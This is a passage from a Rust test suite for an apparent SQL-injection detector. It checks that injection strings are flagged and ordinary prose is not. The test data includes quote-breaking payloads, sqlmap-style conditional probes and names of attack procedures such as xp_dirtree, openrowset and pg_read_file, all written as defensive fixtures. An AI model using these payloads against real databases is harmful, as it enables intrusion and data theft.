            "1 or 2 like this",
            "10 and 20 like counts",
            "3 and true story",
            "2 is not true",
            "1 and not false friends",
            "2 people like this",
            "prepare meals from scratch",
            "line one\\nline two",
            // A system table's name ending a hyphenated word names a tool.
            "Use systemd-sysusers in #DEBHELPER# now",
            "[1] or [2]",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    #[test]
    fn breaks_the_application_completes() {
        for a in [
            // A quote left open, or an operator left dangling, for the application's own
            // closing quote: `'x' or 'a'`, `'x' or 5>'…'`.
            "x' or 'a",
            "' or '1",
            "x' or 'a'<",
            "bob' or 5>",
            "abc'xor 9<",
            "x' and id>",
            "' or 7-",
            // An operator, an operand and a comment cutting the rest.
            "x'-name--",
            "x'|uid--",
            "x' div id--",
            "user'collate nocase--",
            "1' and foo(x)#",
            "1' and starts_with(password,'x')--",
            // The string and the statement ended together.
            "admin';",
            "foo@example.com';",
            // A backslash escaping the first of a doubled quote.
            "\\' or '1",
            "\\\" or \"x",
            // Procedures and providers only an attack names.
            "xp_regread",
            "exec master..xp_dirtree '\\\\x\\y'",
            "sp_executesql",
            "msdasql",
            "openrowset",
            "utl_http",
            "pg_read_file",
            // The rest of a condition, the query's rest cut.
            "or true--",
            "and false -- x",
            // The quote left open and empty: `'admin' or ''`.
            "admin' or '",
            "' or '",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
        for b in [
            "James' or Tom-",
            "It's 5' or 6' -- depends",
            "The kids' and parents' tickets -- sold out",
            "Customers' or suppliers' addresses >",
            "teachers' or students' #1 choice",
            "DRESS WITH HAT 18';",
            "he said 'ok';",
            "Don\\'t forget the milk",
            "O\\'Reilly and Sons",
            "xp_points",
            "xp_points and level",
            "windows_xp_drivers.zip",
            "Rock 'n' roll or '",
            "the 'or' word",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    /// sqlmap's boundaries: a payload continuing the application's list (`,`) or starting a
    /// statement of its own (`;`), conditional expressions, procedures called.
    #[test]
    fn list_and_statement_continuations() {
        for a in [
            ",IIF(5831=5831,1,1/0)",
            ";IIF(5831=5831,1,1/0)",
            ",(CASE WHEN 5831=5831 THEN 1 ELSE NULL END)",
            ";SELECT CASE WHEN 5831=5831 THEN 1 ELSE NULL END FROM DUAL",
            "SELECT 'qvkpq'||(CASE WHEN (5831=5831) THEN 1 ELSE 0 END)||'qzjvq'",
            "ELT(5831=5831,7412)",
            "(5831=5831)*7412",
            "1;BEGIN USER_LOCK.SLEEP(5); END",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
        for b in [
            ", if (you can) call me",
            "(5=6)*2",
            "(1+1=2)",
            "Call me (maybe)",
            "Call _xcb_in_read() once from the polling functions",
            "select 'a' || your own",
            "elt (a list)",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    #[test]
    fn object_key_names_under_their_folder() {
        use crate::inspect::subject::rule_at;
        use crate::trigger::FieldRole::Value;
        let key = "$.Records[0].s3.object.key";
        for a in ["incoming/ORDER BY 1--", "uploads/' or 1=1--", "incoming/'"] {
            assert!(rule_at(detect, a, Value, key).is_some(), "missed {a}");
        }
        let proxy = "$.pathParameters.proxy";
        assert!(rule_at(detect, "get/ORDER BY 1--", Value, proxy).is_some());
        // Elsewhere a `/` starts nothing: media types, user agents and URLs are read once.
        assert_eq!(
            rule_at(detect, "incoming/ORDER BY 1--", Value, "$.body.note"),
            None
        );
        assert_eq!(rule_at(detect, "2024/05/report.csv", Value, key), None);
    }

    /// A value then a comment cutting the query: `1--` is a probe from paranoia 2 (at 1, too
    /// many values end with a dash or two).
    #[test]
    fn a_value_cut_by_a_comment_is_a_probe_from_paranoia_2() {
        for v in ["1--", "417652--", "1 * 1 /*", "@version /*"] {
            assert!(test_subject(v, 1, detect).is_none(), "{v}");
            let hit = test_subject(v, 2, detect).map(|h| h.rule);
            assert_eq!(hit, Some("sqli.string_break"), "{v}");
        }
    }

    #[test]
    fn near_misses_pass() {
        for b in [
            "Order by phone: 555-1234",
            "order by 5 pm",
            "limit 0,1",
            "limit 3 -- per user",
            "Please select - 2 items from the list",
            "(1 or 2) see above",
            "Rock'n and roll() and 'more",
            "Rock' and roll and 'more",
            "James' - the boss - 'said",
            "Tom' & Jerry's",
            "Please delete ignore from the list",
            "it's and then f(x) and 'y' too",
            "Where is the station?",
            "having 2 kids is fun",
            "group by region and year",
            "it exists (select one from the list)",
            "Tom's in boolean mode) and that's it",
            "It's in dark mode) and 2 = 2 colors",
            "choose from (select a size) the menu",
            "5 or 6 #2 brush",
            "true or false?",
            "1 or 2",
            "12\"-14\"",
            "BACKDROP -3'+-4'",
            "\"-\"",
            "\"*\"",
            "\"",
            "\"\"",
            "O'Brien",
            "'quoted'",
            "He's 6' 2\" tall",
            "select top 3",
            "Select user from the list",
            "copy the text from 'page 3' by hand",
            "backup database weekly",
            "Grant access to the team",
            "docs/select one option",
            "photos/2024/beach.jpg",
            "Union Station, order #5",
            "SCRAPBOOK PAPER PACK (8.5X11\"-300 DPI) --",
            "Don’t select the red one; or do",
            "‘Hello’ or ‘bye’ – pick one",
            "He said “yes” or “no”",
            "it’s 5 o’clock",
            "Case when the door is open (see 2)",
            "In case (of rain) = umbrella",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    #[test]
    fn prose_and_data_pass() {
        for b in [
            "1 or 2",
            "1 or more",
            "1 or true story",
            "1 or 2 -- your pick",
            "Great value; describe it to a friend",
            "Nice lamp; show tables and chairs too",
            "src/**/*.rs",
            "@@ -1 +1 @@\n-# Hello-World",
            "@@ -12,7 +12,9 @@ fn main() {",
            "If you have any questions, see\n@@CONTACT_ADDRESS@@ for details.",
            "Exports __libc_ns_print@@GLIBC_2.32.\n  * Fix a crash (Closes: #1)",
            "GET /search?q='hello world' HTTP/1.1",
            "https://example.com/?q=\"quoted phrase\"&page=2",
            "O'Brien",
            "Don't select the red one; or do",
            "It's (mostly) as good from here",
            "the 'blue' (ish) as shown from above",
            // Markdown's inline code, dollar signs, a call in prose.
            "call `socket.connect(options[, connectListener])`.",
            "[`RegExp` Unicode Property Escapes][]",
            "Flags may omit leading single (`-`) or double (`--`) dashes",
            "`util.inspect()` will use the constructor's name and/or `@@toStringTag`",
            "100$$ or more",
            "Please call me(maybe) tomorrow; call Bob (the manager) first",
            "Steps; if (you are unsure) select the default",
            "(see the photo) as shown where the box was crushed",
            "rock 'n' roll",
            "rock'n'roll or 'x=y",
            "she said 'or' x=y",
            "Tom and Jerry",
            "He said 'yes' or 'no'",
            "Please select one from the menu",
            "Update my profile",
            "coffee or tea?",
            "2024-01-01T00:00:00Z",
            "SELECT is my favourite word",
            "I'd like 2 or 3 of them",
            "it's 5 o'clock - time to go",
            "union station, order #5",
            "The drop table was set up in the hall",
            "price >= 10 and <= 20",
            "or something like that",
            "And now: 10::30 at the station",
            "Or = gold in heraldry",
            "12\" #3 ROUND BRUSH",
            "ACME CO'# 4 WASHER",
            "'IN' tray, left desk",
            "\"IS\" NOT for sale",
            "select 'none'",
            "select colour from palette",
            "SELECT * is slow on wide tables",
            "SELECT COUNT(*) is slow on large tables; use an estimate instead.",
            "sleep(7 hours) a night",
            "Database administrator, coalesce the results",
            "see section 2::3 at 10::30",
            "std::string and Vec::new",
            "Concatenate (join) the strings",
            "a /* note */ b",
            "the catalog of pg products",
            "Don't; please",
            "It's done';",
            // Measurements end like a statement does (`18';`): not enough alone.
            "Shelf board 12 x 18';",
            // SQL function names in prose are not calls opening a value.
            "the cos of the angle",
            "Hex (six-sided) nuts",
            "Mid (2019) review",
            "Execute immediately, please",
            "procedure: analyse the samples",
            "If (2 = 3) then what?",
            "if (you want) = fine",
            "5 as \"gifts\" from",
            "known as Bob from Texas",
            "coffee or tea ? 'a'",
            "Is it 1 or 2 ?",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }
}
